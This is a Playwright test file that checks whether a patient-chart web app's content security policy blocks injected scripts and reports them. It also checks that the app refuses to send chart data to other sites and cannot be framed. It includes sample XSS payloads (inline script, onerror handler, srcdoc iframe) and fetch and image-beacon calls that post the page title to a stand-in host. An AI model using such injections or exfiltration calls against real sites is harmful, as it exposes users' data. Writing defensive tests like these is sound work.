import { CHARTS } from './demo-charts'
import { expect, test } from './signed-in'
import { watchPolicy } from './watch-policy'

test.use({ breaksPolicy: true })

const RAN = 'document.documentElement.dataset.ran = "yes"'

/** The page as the server sends it, with something of an attacker's in it. */
async function serveWith(page: import('@playwright/test').Page, injected: string): Promise<void> {
  await page.route('**/*', async (route) => {
    if (route.request().resourceType() !== 'document') return route.continue()
    const response = await route.fetch()
    const body = (await response.text()).replace('</body>', `${injected}</body>`)
    await route.fulfill({ response, body })
  })
}

for (const [what, injected] of [
  ['an inline script', `<script>${RAN}</script>`],
  ['an inline script with a guessed nonce', `<script nonce="bm9uY2U=">${RAN}</script>`],
  ['an event handler', `<img src="/none" onerror='${RAN}'>`],
  ['a script of another site', `<script src="https://elsewhere.example/run.js"></script>`],
  ['a frame with a script', `<iframe srcdoc='<script>parent.${RAN}</script>'></iframe>`],
] as const)
  test(`${what} that got into a page does not run, and is told`, async ({ page, context }) => {
    const violations = await watchPolicy(context)
    await serveWith(page, injected)
    await page.goto('/')
    await expect(page.getByRole('searchbox')).toBeVisible()
    await expect.poll(() => violations.length).toBeGreaterThan(0)
    await expect(page.locator('html')).not.toHaveAttribute('data-ran', 'yes')
  })

test('nothing of a chart is sent to another site, and no page of ours stands in a frame', async ({
  page,
  patients,
  baseURL,
}) => {
  await patients.openChartOf(CHARTS.sparse)
  const outcome = await page.evaluate(async () => {
    const sent = await fetch('https://elsewhere.example/', { method: 'POST', body: document.title }).then(
      () => 'sent',
      () => 'refused',
    )
    const picture = new Image()
    const shown = await new Promise((resolve) => {
      picture.onload = () => resolve('shown')
      picture.onerror = () => resolve('refused')
      picture.src = `https://elsewhere.example/?${encodeURIComponent(document.title)}`
    })
    return [sent, shown]
  })
  expect(outcome).toEqual(['refused', 'refused'])
  await page.setContent(`<iframe src="${baseURL}/"></iframe>`)
  await expect(page.frameLocator('iframe').getByRole('searchbox')).toHaveCount(0)
})
